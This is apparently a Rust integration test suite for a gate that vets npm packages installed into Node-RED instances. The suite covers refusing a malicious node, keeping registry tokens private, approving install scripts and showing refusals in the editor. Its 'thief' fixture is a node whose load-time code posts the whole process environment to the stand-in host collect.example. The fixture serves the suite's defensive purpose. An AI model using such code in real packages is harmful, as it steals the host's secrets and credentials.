//! The gate: what npm gets for instances, what it does not, and who is told why. Real npm, real Node-RED, a registry of
//! the test's own behind the gate.

use std::fs;
use std::path::Path;

use serde_json::json;
use test_support::browser::Browser;
use test_support::host::Host;
use test_support::package::{Package, Packed};
use test_support::registry::Registry;
use test_support::skip::skipped;

use super::packages::{install, meter, newest, settings};
use super::{endpoint, hello};

/// A node that sends the environment of the host away while it is loaded.
pub(crate) fn thief(version: &str) -> Packed {
    node(
        "node-red-thief",
        version,
        "const https = require('https');\n\
         const all = JSON.stringify(process.env);\n\
         https.request({ host: 'collect.example', method: 'POST' }).end(all);\n",
    )
}

/// A package of one node type, with code that runs when it is loaded.
pub(crate) fn node(name: &str, version: &str, code: &str) -> Packed {
    let node_type = name.trim_start_matches("node-red-");
    let manifest = json!({ "name": name, "version": version, "license": "MIT",
        "node-red": { "nodes": { node_type: "node.js" } } });
    let code = format!(
        "{code}module.exports = (RED) => RED.nodes.registerType('{node_type}', function (config) {{ \
         RED.nodes.createNode(this, config) }})"
    );
    let html = format!("<script>RED.nodes.registerType('{node_type}', {{ defaults: {{}} }})</script>");
    Package::new(name, version)
        .file("package.json", manifest.to_string().as_bytes())
        .file("node.js", code.as_bytes())
        .file("node.html", html.as_bytes())
        .pack()
}

fn installed(host: &Host, id: &str, name: &str) -> bool {
    let modules = host.data().join("instances").join(id).join("data/node_modules");
    modules.join(name).exists()
}

#[test]
fn what_is_refused_is_never_installed_and_says_why() {
    let registry = Registry::start();
    registry.publish(&meter("1.0.0"));
    registry.publish(&thief("1.0.0"));
    let host = Host::start();
    let id = host.create("pump", &hello(), &settings(&registry, &json!({})));

    let good = install(&host, "pump", "node-red-meter").expect("installed");
    assert_eq!(good["version"], "1.0.0");
    let event = newest(&host, "pump", "installed").expect("an event");
    assert_eq!(
        event["detail"]["vetting"][0]["package"], "node-red-meter@1.0.0",
        "{event}"
    );
    assert_eq!(event["detail"]["vetting"][0]["verdict"], "trusted", "{event}");

    // The editor is told what npm would be told, and nothing of it is there.
    let bad = install(&host, "pump", "node-red-thief").expect_err("a refusal");
    for part in [
        "node-red-thief@1.0.0 is refused",
        "flow.secret",
        "node.js:3",
        "redhold waiver add",
    ] {
        assert!(bad.contains(part), "{bad}");
    }
    assert!(!installed(&host, &id, "node-red-thief"));
    let event = newest(&host, "pump", "install-refused").expect("an event");
    assert!(
        event["text"].as_str().unwrap_or_default().contains("flow.secret"),
        "{event}"
    );

    // A changed policy counts at once. Without the gate nothing is vetted.
    host.policy("gate = \"off\"");
    // Node-RED itself may not survive it.
    let _ = install(&host, "pump", "node-red-thief");
    host.wait_event("pump", "installed: installed node-red-thief with npm");
    assert!(installed(&host, &id, "node-red-thief"));

    // The lock that npm wrote names no address of the gate's.
    let lock = host
        .data()
        .join("instances")
        .join(&id)
        .join("data/package-lock.json");
    let lock = fs::read_to_string(lock).expect("a lock");
    assert!(
        lock.contains("node-red-meter") && !lock.contains("gate.redhold"),
        "{lock}"
    );
    let npm = |request: &test_support::registry::Request| {
        request
            .headers
            .get("user-agent")
            .is_some_and(|agent| agent.starts_with("npm/"))
    };
    assert!(
        !registry.requests().iter().any(npm),
        "npm itself reached the registry"
    );
}

/// Everything that is written below a folder.
fn texts(folder: &Path) -> String {
    let mut all = String::new();
    for entry in fs::read_dir(folder).expect("a folder").flatten() {
        let path = entry.path();
        if path.is_dir() {
            all += &texts(&path);
        } else if path.is_file() {
            all += &String::from_utf8_lossy(&fs::read(&path).unwrap_or_default());
        }
    }
    all
}

#[test]
fn tokens_stay_with_the_gate_and_what_it_has_needs_no_registry() {
    let registry = Registry::start();
    registry.publish(&node("@team/node-red-valve", "1.0.0", ""));
    registry.require_token("s3cr3t-token");
    let mut host = Host::prepared(&["--tls", "off"]);
    host.env("npm_config_@team:registry", &registry.url());
    host.env(
        &format!("npm_config_{}:_authToken", registry.key()),
        "s3cr3t-token",
    );
    host.env("npm_config_noproxy", "127.0.0.1");
    host.run();
    let mut flows = endpoint("msg.payload = JSON.stringify(process.env); return msg");
    for node in flows.as_array_mut().expect("nodes") {
        if node["id"] == "f" {
            node["libs"] = json!([{ "var": "process", "module": "process" }]);
        }
    }
    let id = host.create("pump", &flows, &json!({}));
    // A scope that the user directory sends elsewhere comes from the gate as well.
    let data = host.data().join("instances").join(&id).join("data");
    fs::write(data.join(".npmrc"), "@team:registry=http://127.0.0.1:9/\n").expect("an npmrc");
    let done = install(&host, "pump", "@team/node-red-valve").expect("installed");
    assert_eq!(done["version"], "1.0.0");
    assert!(registry.requests().iter().all(|request| {
        request
            .headers
            .get("authorization")
            .is_some_and(|value| value == "Bearer s3cr3t-token")
    }));
    let seen = host.get("pump", "/run").expect("an answer").text();
    assert!(seen.contains("PATH") && !seen.contains("s3cr3t"), "{seen}");
    assert!(!texts(&host.data().join("instances")).contains("s3cr3t"));

    // The registry is gone; another instance gets what was vetted all the same.
    registry.hang_up();
    host.create("mill", &hello(), &json!({}));
    install(&host, "mill", "@team/node-red-valve").expect("installed");
}

#[test]
fn install_scripts_run_when_the_policy_names_them_and_not_otherwise() {
    let registry = Registry::start();
    let manifest = json!({ "name": "node-red-gauge", "version": "1.0.0", "license": "MIT",
        "scripts": { "postinstall": "node mark.js" }, "node-red": { "nodes": { "gauge": "node.js" } } });
    let packed = Package::new("node-red-gauge", "1.0.0")
        .file("package.json", manifest.to_string().as_bytes())
        .file("mark.js", b"require('fs').writeFileSync(__dirname + '/mark.txt', 'ran')")
        .file(
            "node.js",
            b"module.exports = (RED) => RED.nodes.registerType('gauge', function (c) { RED.nodes.createNode(this, c) })",
        )
        .file("node.html", b"<script>RED.nodes.registerType('gauge', { defaults: {} })</script>")
        .pack();
    registry.publish(&packed);
    let host = Host::start();
    host.policy("gate = \"warn\"");
    let id = host.create("pump", &hello(), &settings(&registry, &json!({})));
    let mark = || {
        let modules = host.data().join("instances").join(&id).join("data/node_modules");
        modules.join("node-red-gauge/mark.txt").exists()
    };
    install(&host, "pump", "node-red-gauge").expect("installed");
    let event = newest(&host, "pump", "installed").expect("an event");
    assert_eq!(
        event["detail"]["vetting"][0]["reason"]["rule"], "install.script",
        "{event}"
    );
    assert!(!mark());

    let approved = format!(
        "grants = [{{ to = [\"node-red-gauge\"], allow = [\"fs.write{{own}}\"], reason = \"it leaves a mark\" }}]\n\
         [scripts]\napproved = [{{ package = \"node-red-gauge@1.0.0\", integrity = \"{}\", command = \"node mark.js\" }}]",
        packed.integrity()
    );
    // Named, and with what it does granted, it no longer needs a review.
    host.policy(&approved);
    let token = host.token();
    let gone = host.call(
        "pump",
        "DELETE",
        "/nodes/node-red-gauge",
        &[("authorization", token.as_str())],
        Vec::new(),
    );
    assert_eq!(gone.expect("an answer").status, 204);
    install(&host, "pump", "node-red-gauge").expect("installed");
    let event = newest(&host, "pump", "installed").expect("an event");
    assert!(mark(), "{event}");
    assert_eq!(event["detail"]["scripts"], json!(["node-red-gauge"]), "{event}");
}

#[test]
fn the_palette_shows_why_a_node_is_refused() {
    let Some(mut browser) = Browser::start() else {
        return skipped("host::gate::the_palette_shows_why_a_node_is_refused", "Chromium");
    };
    let registry = Registry::start();
    registry.publish(&meter("1.0.0"));
    registry.publish(&thief("1.0.0"));
    let host = Host::start();
    let module = |name: &str| {
        json!({ "id": name, "version": "1.0.0", "description": "from the test", "updated_at": "2026-01-01T00:00:00Z",
            "keywords": [], "types": [] })
    };
    let catalogue = json!({ "name": "Tested", "updated_at": "2026-01-01T00:00:00Z",
        "modules": [module("node-red-meter"), module("node-red-thief")] });
    let mut settings = settings(&registry, &json!({}));
    // The instance itself serves it.
    settings["palette"]["catalogues"] = json!(["/run"]);
    let code = format!("msg.payload = {catalogue}; return msg");
    host.create("pump", &endpoint(&code), &settings);

    browser.go(&format!(
        "http://pump.localhost:{}/.redhold/sign-in?to=/",
        host.port()
    ));
    let token = host.token();
    let token = token.trim_start_matches("Bearer ");
    browser.wait_for("document.querySelector('input[name=token]')");
    browser
        .eval(&format!(
            "(() => {{ document.querySelector('input[name=token]').value = '{token}'; document.forms[0].submit(); }})()"
        ))
        .expect("signed in");
    browser.wait_for("window.RED && RED.nodes && RED.nodes.node('f')");
    browser.wait_for("$('#red-ui-loading-progress:visible').length === 0");
    let mut install = |name: &str| {
        browser
            .eval(&format!(
                "RED.actions.invoke('core:manage-palette', {{ view: 'install', filter: '{name}' }})"
            ))
            .expect("the palette manager");
        let button =
            "#red-ui-palette-editor .red-ui-palette-module-header a.red-ui-button:not(.disabled):visible";
        browser.wait_for(&format!(
            "$('#red-ui-palette-editor .red-ui-palette-module-name:visible').text().includes('{name}')"
        ));
        browser.wait_for(&format!(
            "$(\"{button}\").filter((_, b) => $(b).text() === 'install').length === 1"
        ));
        browser
            .eval(&format!(
                "$(\"{button}\").filter((_, b) => $(b).text() === 'install').trigger('click')"
            ))
            .expect("the button");
        browser.wait_for("$('.red-ui-palette-module-install-confirm-button-install:visible').length > 0");
        browser
            .eval("$('.red-ui-palette-module-install-confirm-button-install:visible').trigger('click')")
            .expect("the confirmation");
    };
    install("node-red-meter");
    host.wait_event("pump", "installed: installed node-red-meter");
    install("node-red-thief");
    host.wait_event("pump", "install-refused: npm could not install node-red-thief");
    browser.wait_for(
        "$('.red-ui-notification:visible').text().includes('node-red-thief@1.0.0 is refused by rule flow.secret')",
    );
    browser.wait_for("RED.nodes.getType('meter') && !RED.nodes.getType('thief')");
    if let Some(file) = std::env::var_os("REDHOLD_TEST_SCREENSHOT") {
        browser.screenshot(Path::new(&file));
    }
}
